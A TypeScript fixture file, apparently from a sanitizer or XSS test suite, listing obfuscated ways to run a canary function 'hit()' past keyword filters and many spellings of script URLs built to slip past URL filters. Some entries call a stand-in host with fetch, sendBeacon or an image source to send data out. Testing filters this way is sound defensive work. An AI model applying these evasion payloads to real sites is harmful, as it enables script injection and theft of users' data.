/** What a payload would do if it ran. A journey defines `hit` in the page and counts; the host does not exist. */
export const act = 'hit()'
export const foreign = 'https://foreign.example/x'

/** The same act, obfuscated against keyword filters. */
export const hiddenActs: readonly string[] = [
  act,
  'top.hit()',
  'window["h"+"it"]()',
  'self[/*x*/`hit`]()',
  '[].map.constructor`h\\u0069t()```',
  '\\u0068it()',
  'hit?.(1)',
  'setTimeout`hit\\x28\\x29`',
  "Function('hit()')()",
  'eval(atob`aGl0KCk=`)',
  '(0,eval)(name="hit()")',
  'import("data:text/javascript,hit()")',
  'throw onerror=hit,1',
  'location="javascript:hit()"',
  'fetch("https://foreign.example/x")',
  'navigator.sendBeacon("https://foreign.example/x")',
  'document.write("<script>hit()</script>")',
  'new Image().src="https://foreign.example/x"',
  'alert(1)',
  'confirm`1`',
]

export const entity = (text: string, style: 'decimal' | 'hex' | 'padded' | 'bare'): string =>
  Array.from(text)
    .map((letter) => {
      const code = letter.codePointAt(0) ?? 0
      if (style === 'decimal') return `&#${code};`
      if (style === 'hex') return `&#x${code.toString(16)};`
      return style === 'padded' ? `&#${String(code).padStart(7, '0')};` : `&#${String(code).padStart(7, '0')}`
    })
    .join('')

/** Spellings of a script URL that still run, or that a filter might overlook. */
export const spellings: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase().replace('HIT', 'hit'),
  (address) => address.replace(/^(\w)(\w)/, (_, one: string, two: string) => one.toUpperCase() + two.toLowerCase()),
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u00A0${address}`,
  (address) => `&#14;${address}`,
  (address) => address.replace('s', 's\t'),
  (address) => address.replace('s', 's&#10;'),
  (address) => address.replace('s', 's&NewLine;'),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58'),
  (address) => address.replace(':', '\t:'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', ':\u2028'),
  (address) => address.replace('s', 's\u0000'),
  (address) => address.replace('s', '\u017F'),
  (address) => entity(address, 'decimal'),
  (address) => entity(address, 'hex'),
  (address) => entity(address, 'padded'),
  (address) => entity(address, 'bare'),
  (address) => encodeURI(address).replaceAll('(', '%28').replaceAll(')', '%29'),
  (address) => `/m/home/../../${address}`,
  (address) => `https://foreign.example/${address}`,
]
